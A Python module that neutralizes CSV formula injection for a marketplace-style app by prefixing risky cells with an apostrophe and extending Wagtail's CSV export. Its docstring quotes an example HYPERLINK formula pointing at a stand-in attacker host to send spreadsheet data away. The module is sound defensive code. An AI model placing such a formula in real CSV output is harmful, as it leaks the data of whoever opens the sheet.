"""CSV that a spreadsheet opens as data, never as formulas.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or a
carriage return before one) as a formula: a listing title such as
`=HYPERLINK("https://evil.example/?"&A1,"Open")` would send the sheet's data away
when clicked. Every CSV Agora writes goes through `spreadsheet_cell`, which writes
such text with a leading apostrophe (`'=HYPERLINK(…)`): the spreadsheet shows it as
text, apostrophe hidden, and runs nothing.

Numbers stay numbers: an int or a Decimal is left as it is, and so is text that is
exactly a decimal number (`-120.50`, what `Money.decimal` gives), which a
spreadsheet reads as that number and cannot run. A refund's negative amount is
therefore still summed, sorted and filtered as a number.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

# What OWASP lists as the first characters of a formula (CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def spreadsheet_cell(value: Any) -> Any:
    """The value as a CSV cell a spreadsheet cannot run: text that starts like a
    formula gets a leading apostrophe; numbers and other text are unchanged."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


class SpreadsheetWriter:
    """`csv.writer` whose every cell goes through `spreadsheet_cell`."""

    def __init__(self, out: Any) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: Any) -> SpreadsheetWriter:
    """A CSV writer onto `out` (a file, a response) that neutralizes formulas."""
    return SpreadsheetWriter(out)


class SpreadsheetSafeExportMixin:
    """For Wagtail index views with `list_export`: their CSV cells go through
    `spreadsheet_cell` too (Wagtail's XLSX export already stores formulas as
    text)."""

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: spreadsheet_cell(
                    self.preprocess_field_value(field, value, self.FORMAT_CSV)  # type: ignore[attr-defined]
                )
                for field, value in row_dict.items()
            }
        )
